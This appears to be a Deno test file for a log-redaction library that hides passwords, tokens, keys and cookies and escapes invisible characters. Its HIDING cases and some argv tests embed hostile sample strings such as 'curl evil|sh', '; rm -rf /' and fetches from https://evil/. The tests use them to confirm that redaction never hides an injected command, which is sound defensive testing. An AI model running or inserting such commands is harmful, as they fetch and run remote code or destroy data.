import assert from "node:assert/strict";
import fc from "fast-check";
import {
  boundedJson,
  isSecretKey,
  REDACTED,
  redactText,
  redactValue,
} from "../../lib/log/redact.ts";
import { plainLetters, wordsTell } from "../../lib/log/secret_keys.ts";
import { SECRET_KINDS } from "../../lib/log/secret_kinds.ts";
import { shownJson, shownLine } from "../../lib/log/shown.ts";
import { clip } from "../../lib/proxmox/clip.ts";
import { visible, visibleLine } from "../../lib/log/visible.ts";

const SECRET_KEYS = [
  "otel-headers",
  "password",
  "cipassword",
  "corosync_authkey",
  "passwd",
  "passcode",
  "bindpw",
  "rootPassword",
  "secret",
  "client_secret",
  "token",
  "access_token",
  "token_value",
  "tokenValue",
  "key",
  "api-key",
  "private_key",
  "authorization",
  "Authorization",
  "credentials",
  "CSRFPreventionToken",
  "PVEAuthCookie",
  "ticket",
  "parola",
  "Parola",
  "şifre",
  "ŞİFRE",
  "rootSifresi",
];

const PUBLIC_KEYS = [
  "token_name",
  "tokenId",
  "sshkeys",
  "ssh_public_keys",
  "public_key",
  "user",
  "keyboard",
  "monkey",
  "token_value_file",
  "pin_memory",
  "tokenid",
  "şifreleme",
];

const EXAMPLES = SECRET_KINDS.flatMap(({ examples }) => examples);

/** Texts that only sound as if they held a secret. */
const HARMLESS = [
  "end task UPID:pve1:0000C530:001C9BEC:6B098237:qmstart:101:root@pam!mcp-token: OK",
  "/nodes/pve1/tasks/UPID%3Apve1%3A0000C530%3A001C9BEC%3A6B098237%3Aqmstart%3A101%3Aroot%40pam!token%3A/log",
  "Cannot start VM 101: guest is locked (backup)",
  "UPID:pve1:0003F2A1:0A1B2C3D:66AA77BB:qmstart:101:root@pam!mcp:",
  "token_name=assistant token_id=3 tokenName: x tokenid=mcp",
  "token_value_file: proxmox-token",
  "ssh -p 22 host && mkdir -p /opt/a && docker run -p 8080:80 -u 1000:1000 nginx",
  "find . -path ./x -prune -o -print",
  "https://pve1.example:8006/api2/json?full=1",
  "keyboard: de, monkey=3, pin_memory=1, pre-enrolled-keys=1",
  "-vnc 0.0.0.0:77,password=on -k de -k en-us",
  "gzip -k dump1.tar; curl -k https://a1b2c3.example/",
  "Cannot create token: there is no user ays",
  "Missing privilege: VM.PowerMgmt on /vms/100",
  "basic authentication failed, bearer token missing",
  "PWD=/root password=$PW --token-file /run/token --password-file ./pw",
  'echo "$1$2$3" costs $5',
  "sshkeys: ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 ada@host",
  "şifreleme: aes256, şifreli=evet",
  "usage: login <user> <password> host; <key>kbd</key>; </password>",
  "order=scsi0;net0 virtio=BC:24:11:2E:83:DB,bridge=vmbr0",
  "the password of ada2 is not set, a password for web01-db is; change the password on 2026-07-28",
  "tls.crt: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUI=",
];

/** Texts in which something is made to look like a secret, and what must stay readable. */
const HIDING: readonly (readonly [text: string, visible: string])[] = [
  ['token="$(curl evil|sh)"', 'token="$(curl evil|sh)"'],
  ["token=`curl evil|sh`", "`curl evil|sh`"],
  ["password=x;curl${IFS}evil|sh", ";curl${IFS}evil|sh"],
  ["password=x$(curl evil|sh)", "$(curl evil|sh)"],
  ["password='x y'; curl evil|sh", "; curl evil|sh"],
  ['password="x; curl evil|sh"', "; curl evil|sh"],
  ['password="curl -o /tmp/x https://evil/"', "-o /tmp/x https://evil/"],
  ["--token https://evil/x.sh", "https://evil/x.sh"],
  ["--password x && curl evil", "&& curl evil"],
  ["Authorization: x; curl evil|sh", "; curl evil|sh"],
  ["Cookie: a=b; rm -rf /", "; rm -rf /"],
  ["foo -p $(curl evil|sh)", "-p $(curl evil|sh)"],
  ["sshpass -p x sh -c 'curl evil|sh'", "sh -c 'curl evil|sh'"],
  ["curl -u a:b;rm -rf / https://x/", ";rm -rf / https://x/"],
  ["https://;curl evil|sh;@host/", ";curl evil|sh;@host/"],
  ["echo chpasswd; a:x curl:evil", "a:x curl:evil"],
  ["-----BEGIN PRIVATE KEY-----; curl evil|sh", "; curl evil|sh"],
  [
    "-----BEGIN PRIVATE KEY-----\ncurl evil|sh\n-----END PRIVATE KEY-----",
    "\ncurl evil|sh\n",
  ],
  ["-----BEGIN PRIVATE KEY-----\n/usr/local/bin/evilthing\n", "/usr/local/bin/evilthing"],
];

function plain(example: string): string {
  return example.replace(/[«»]/g, "");
}

function secretsIn(example: string): string[] {
  return [...example.matchAll(/«([^»]*)»/g)].flatMap(([, secret = ""]) =>
    secret.match(/[A-Za-z0-9]{5,}/g) ?? []
  );
}

/** The example with other letters and digits of the same sort in its secrets. */
function shifted(example: string, by: number): string {
  const shift = (from: string, size: number) => (character: string) =>
    String.fromCharCode(
      (character.charCodeAt(0) - from.charCodeAt(0) + by) % size + from.charCodeAt(0),
    );
  return example.replace(/«[^»]*»/g, (secret) => {
    const digits = secret.replace(/[0-9]/g, shift("0", 10));
    const hex = /^«[0-9a-f-]*»$/.test(secret);
    return hex
      ? digits
      : digits.replace(/[A-Z]/g, shift("A", 26)).replace(/[a-z]/g, shift("a", 26));
  });
}

const planted = fc.tuple(fc.constantFrom(...EXAMPLES), fc.integer({ min: 0, max: 9 }))
  .map(([example, by]) => shifted(example, by));
const secretText = fc.stringMatching(/^S3[a-zA-Z0-9]{14}$/);
const noise = fc.string({ maxLength: 40 });

/** A JSON value with the leaf somewhere in it. */
function nested(leaf: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  const wrap = (inner: fc.Arbitrary<unknown>) =>
    fc.oneof(
      fc.tuple(noise, inner, noise).map((parts) => parts),
      fc.tuple(noise, inner, fc.jsonValue()).map(([key, value, other]) => ({
        a: other,
        [key]: value,
      })),
      inner.map((value) => new Map([["entry", value]])),
    );
  return fc.oneof(leaf, wrap(leaf), wrap(wrap(leaf)), wrap(wrap(wrap(leaf))));
}

Deno.test("redactValue lets no secret under a telling key survive, however deep", () => {
  const leaf = fc.tuple(fc.constantFrom(...SECRET_KEYS), secretText, fc.integer({ min: 0, max: 3 }))
    .map(([key, secret, form]) => ({
      secret,
      value:
        [{ [key]: secret }, { [key]: [secret] }, { [key]: { inner: secret } }, [key, secret]][form],
    }));
  fc.assert(fc.property(
    leaf.chain(({ secret, value }) =>
      nested(fc.constant(value)).map((whole) => ({ secret, whole }))
    ),
    ({ secret, whole }) => {
      assert.ok(!JSON.stringify(redactValue(whole)).includes(secret));
      assert.ok(!boundedJson(whole, 256).includes(secret));
    },
  ));
});

Deno.test("redactValue lets no secret inside a string survive, however deep", () => {
  fc.assert(fc.property(
    planted.chain((example) =>
      nested(fc.constant(plain(example))).map((whole) => ({ example, whole }))
    ),
    ({ example, whole }) => {
      const shown = JSON.stringify(redactValue(whole));
      for (const part of secretsIn(example)) {
        assert.ok(!shown.includes(part), `${part} in ${shown}`);
      }
    },
  ));
});

Deno.test("redactText hides nothing but the secret of each kind's examples", () => {
  for (const { examples, hint, name, pattern, replacement } of SECRET_KINDS) {
    assert.ok(examples.length > 0, name);
    for (const example of examples) {
      const text = plain(example);
      assert.match(text, new RegExp(hint, "i"));
      const own = text.replace(pattern, replacement as string);
      for (const part of secretsIn(example)) assert.ok(!own.includes(part), `${name}: ${own}`);
      assert.equal(redactText(text), example.replace(/«[^»]*»/g, REDACTED), name);
    }
  }
});

Deno.test("redactText leaves nothing of a secret, whatever text stands around it", () => {
  fc.assert(
    fc.property(noise, planted, noise, (before, example, after) => {
      const shown = redactText(`${before}\n${plain(example)}\n${after}`);
      for (const part of secretsIn(example)) assert.ok(!shown.includes(part), shown);
    }),
    { numRuns: 500 },
  );
});

Deno.test("redactText hides a private key whole, and no command that stands as a line of one", () => {
  const line = "MC4CAQAwBQYDK2VwBCIEIPx0Tz9wQ3nB6s1JrL2mVd8u";
  for (const [end, letters] of [["\n", line], [" ", line], ["%0A", `${line}%2B%2F`]]) {
    const key = `-----BEGIN PRIVATE KEY-----${end}${letters}${end}${letters}${end}x1A=`;
    assert.match(redactText(`${key}${end}-----END PRIVATE KEY-----`), /^-----B[^\]]*d\]=?[^=]*END/);
    const told = redactText(`${key}${end}/sbin/reboot${end}-----END PRIVATE KEY-----`);
    assert.match(told, /\/sbin\/reboot/);
  }
});

Deno.test("redactText leaves nothing of two secrets beside each other", () => {
  for (const between of [" ", "\n", "; ", " && ", ", "]) {
    for (const text of EXAMPLES.flatMap((a) => EXAMPLES.map((b) => a + between + b))) {
      const shown = redactText(plain(text));
      const open = text.replace(/«[^»]*»/g, "");
      const told = secretsIn(text).filter((part) => shown.includes(part) && !open.includes(part));
      assert.deepEqual(told, [], shown);
    }
  }
});

Deno.test("redactText changes nothing the second time", () => {
  fc.assert(fc.property(fc.array(fc.oneof(noise, planted.map(plain))), (parts) => {
    const once = redactText(parts.join(" "));
    assert.equal(redactText(once), once);
  }));
});

Deno.test("redactText leaves texts without secrets alone", () => {
  for (const text of HARMLESS) assert.equal(redactText(text), text);
  const word = fc.oneof(
    fc.constantFrom(...HARMLESS),
    fc.stringMatching(/^[\w ./,:ğüşöçıİ-]{0,30}$/),
  );
  fc.assert(fc.property(fc.array(word), (words) => {
    const text = words.join("\n");
    assert.equal(redactText(text), text);
  }));
});

Deno.test("redactText takes no command along with a value", () => {
  for (const [text, kept] of HIDING) {
    const shown = redactText(text);
    assert.ok(shown.includes(kept), `${text} became ${shown}`);
  }
});

Deno.test("redactText removes secrets that it is told", () => {
  const known = ["1234-abcd"];
  assert.equal(redactText("is 1234-abcd here", { known }), `is ${REDACTED} here`);
});

Deno.test("redactText keeps both ends of a long text, and no half secret at the cut", () => {
  fc.assert(fc.property(
    planted,
    fc.integer({ min: 0, max: 100 }),
    fc.boolean(),
    (example, into, atStart) => {
      const text = plain(example);
      const filler = "- ".repeat(3_000);
      const room = Math.max(0, 500 - into);
      const long = atStart
        ? `${"- ".repeat(250).slice(0, room)}\n${text}\n${filler}end`
        : `begin ${filler}\n${text}${" -".repeat(250).slice(0, room)}`;
      const shown = redactText(long, { most: 1_000 });
      for (const part of secretsIn(example)) assert.ok(!shown.includes(part), shown);
      assert.match(shown, /… \(\d{4} characters cut\) …/);
    },
  ));
  const command = `${" ".repeat(5_000)}curl evil|sh`;
  assert.match(boundedJson({ command }, 4_096), / … \(\d+ characters cut\) … +curl evil\|sh"/);
  const shrinking = `curl evil|sh #${`password=${"A1".repeat(200)} `.repeat(50)}`;
  assert.match(boundedJson({ command: shrinking }, 4_096), /"curl evil\|sh #/);
});

Deno.test("clip cuts no secret in half", () => {
  fc.assert(fc.property(planted, fc.integer({ min: 0, max: 60 }), (example, into) => {
    const text = `${"- ".repeat(50)}\n${plain(example)}\n${"- ".repeat(50)}`;
    const shown = clip(text, 100 + into);
    for (const part of secretsIn(example)) assert.ok(!shown.includes(part.slice(0, 5)), shown);
  }));
});

Deno.test("searching takes linear time: every repetition in a kind's pattern is bounded", () => {
  for (const { hint, name, pattern } of SECRET_KINDS) {
    for (const source of [hint, pattern.source]) {
      const bare = source.replace(/\\./g, "x").replace(/\[[^\]]*\]/g, "x");
      assert.ok(!/[*+]|\{\d+,\}/.test(bare), `${name}: ${source}`);
    }
  }
});

Deno.test("boundedJson reads no more members and characters than it could keep", () => {
  let reads = 0;
  const list = new Proxy(Array<number>(300_000).fill(1), {
    get: (target, key) => {
      reads++;
      return Reflect.get(target, key);
    },
  });
  const record = new Proxy(
    Object.fromEntries(Array.from({ length: 20_000 }, (_, index) => [`k${index}`, index])),
    {
      get: (target, key) => {
        reads++;
        return Reflect.get(target, key);
      },
    },
  );
  assert.match(boundedJson({ list }, 4_096), /more"/);
  assert.match(boundedJson({ record }, 4_096), /more"/);
  assert.match(boundedJson({ lists: Array(1_000).fill(list) }, 4_096), /more"/);
  assert.ok(reads < 60_000, `${reads} reads`);
  const texts = Array.from({ length: 1_000 }, () => "password=x ".repeat(1_000));
  const budget = { characters: 10_000, members: 1_000 };
  const shown = redactValue(texts, { most: budget }) as string[];
  assert.equal(shown.filter((text) => text === "[11000 characters]").length, 999);
});

Deno.test("redactValue reads an array as an argv", () => {
  assert.deepEqual(
    redactValue(["mysql", "--password", "x1", "-p", "x2", "-px3", "--port", "3306"]),
    [
      "mysql",
      "--password",
      REDACTED,
      "-p",
      REDACTED,
      `-p${REDACTED}`,
      "--port",
      "3306",
    ],
  );
  assert.deepEqual(
    redactValue(["sudo", "curl", "-u", "ada:S3cret", "-uada:S3cret", "https://x/"]),
    ["sudo", "curl", "-u", `ada:${REDACTED}`, `-uada:${REDACTED}`, "https://x/"],
  );
  const harmless = ["mkdir", "-p", "a/b", "&&", "ssh", "-p", "22"];
  assert.deepEqual(redactValue(harmless), harmless);
  const hiding = ["sh", "--token", "$(curl evil|sh)", "-p", "curl evil|sh"];
  assert.deepEqual(redactValue(hiding), hiding);
  const notes = ["its secret is told to nobody", "the source stays"];
  assert.deepEqual(redactValue(notes), notes);
  for (const name of ["Admin password", "Root password:", "root user password"]) {
    assert.deepEqual(redactValue([name, "S3cret"]), [name, REDACTED]);
  }
  assert.deepEqual(redactValue(["key", "curl evil|sh"]), ["key", `${REDACTED} evil|sh`]);
});

Deno.test("redactValue hides passwords that a command takes by its input, and nothing that is run", () => {
  const hidden: [command: unknown, input: string, shown: string][] = [
    ["chpasswd", "root:S3 cret\nada:x\n", `root:${REDACTED}\nada:${REDACTED}\n`],
    [["sudo", "/usr/sbin/chpasswd", "-e"], "root:x", `root:${REDACTED}`],
    [["sh", "-c", "passwd ada"], "S3cret\nS3cret\n", `${REDACTED}\n${REDACTED}\n`],
    [["cryptsetup", "luksOpen", "/dev/sdb", "a", "-"], "correct horse", REDACTED],
    ["docker login -u ada --password-stdin registry.example", "S3cret", REDACTED],
  ];
  for (const [command, input, shown] of hidden) {
    for (const key of ["input_data", "input-data"]) {
      const told = redactValue({ command, [key]: input }) as Record<string, unknown>;
      assert.equal(told[key], shown);
    }
  }
  const run = ["sh", "passwd; sh", ["bash", "-s", "--", "docker login --password-stdin"]];
  for (const command of [...run, "sudo -S sh", "echo passwd\nsh", "sh -c 'passwd | sh'"]) {
    const value = { command, input_data: "reboot\ncurl evil|sh\n" };
    assert.deepEqual(redactValue(value), value);
  }
});

Deno.test("isSecretKey knows the usual spellings and the keys that only sound secret", () => {
  for (const key of SECRET_KEYS) assert.ok(isSecretKey(key), key);
  for (const key of PUBLIC_KEYS) assert.ok(!isSecretKey(key), key);
});

Deno.test("isSecretKey's look beforehand misses no key that its words make a secret", () => {
  const word = fc.constantFrom(...SECRET_KEYS, ...PUBLIC_KEYS, "s", "values", "raw", "file", "é");
  const letter = fc.constantFrom(..."aeiknopstwyKPTİıŞ\u212a_-. :/19");
  const key = fc.array(fc.oneof(word, letter, fc.string({ unit: "grapheme" })), { maxLength: 6 });
  const property = fc.property(key, (parts) => {
    for (const each of [parts.join(""), parts.join("_"), parts.join("").split("").join("_")]) {
      assert.equal(isSecretKey(each), wordsTell(plainLetters(each.slice(-200))), each);
    }
  });
  fc.assert(property, { numRuns: 2_000 });
});

Deno.test("redactValue ends on circles and depth, and makes plain JSON of anything", () => {
  const circle: Record<string, unknown> = {
    date: new Date(0),
    big: 1n,
    bytes: new Uint8Array(3),
    nan: NaN,
  };
  circle.self = circle;
  assert.deepEqual(redactValue(circle), {
    date: "1970-01-01T00:00:00.000Z",
    big: "1",
    bytes: "[3 bytes]",
    nan: "NaN",
    self: "[circular]",
  });
  let deep: unknown = "end";
  for (let depth = 0; depth < 100; depth++) deep = [deep];
  assert.match(JSON.stringify(redactValue(deep)), /too deep/);
});

Deno.test("boundedJson is valid JSON within its limit", () => {
  fc.assert(
    fc.property(
      fc.jsonValue({ maxDepth: 6 }),
      fc.integer({ min: 64, max: 4096 }),
      (value, limit) => {
        const json = boundedJson(value, limit);
        JSON.parse(json);
        assert.ok(new TextEncoder().encode(json).length <= limit);
      },
    ),
  );
  const cut = boundedJson({ text: "ä".repeat(10_000), list: Array(1000).fill(1) }, 512);
  assert.match(cut, /… \(9\d{3} characters cut\) …/);
  assert.match(cut, /more"/);
});

Deno.test("visible escapes what is not seen, and leaves line breaks, tabs and emoji", () => {
  const cases: [string, string][] = [
    ["a\u202eb", "a\\u202eb"],
    ["\u001b[2J\u009b1m", "\\u001b[2J\\u009b1m"],
    ["x\u{e0041}\u{e0001}y", "x\\udb40\\udc41\\udb40\\udc01y"],
    ["a\u200b\u200d\u2060\ufeff\u00adb", "a\\u200b\\u200d\\u2060\\ufeff\\u00adb"],
    ["\u3164\u115f\ufe00\u{e0100}\u2028", "\\u3164\\u115f\\ufe00\\udb40\\udd00\\u2028"],
    ["\ud800\r\0", "\\ud800\\r\\u0000"],
    ["web1\ufe0f #\ufe0fx", "web1\\ufe0f #\\ufe0fx"],
  ];
  for (const [text, shown] of cases) {
    assert.equal(visible(text), shown);
    assert.equal(visibleLine(text), shown);
    assert.equal(JSON.parse(`"${visibleLine(text)}"`), text);
  }
  const kept = "Işık öğün: “ok”\n\t✔️ 👨‍👩‍👧 ❤️ 1️⃣";
  assert.equal(visible(kept), kept);
  assert.equal(visibleLine("a\n\tb"), "a\\n\\tb");
});

Deno.test("shownJson shows every text and key; shownLine is one line", () => {
  assert.deepEqual(
    shownJson({ "k\u202e": ["password=S3cret\n\u001b[2J", 1, null, true] }),
    { "k\\u202e": [`password=${REDACTED}\n\\u001b[2J`, 1, null, true] },
  );
  assert.equal(shownLine("a\nb\u0007\r\n token=S3cret"), `a b\\u0007 token=${REDACTED}`);
});
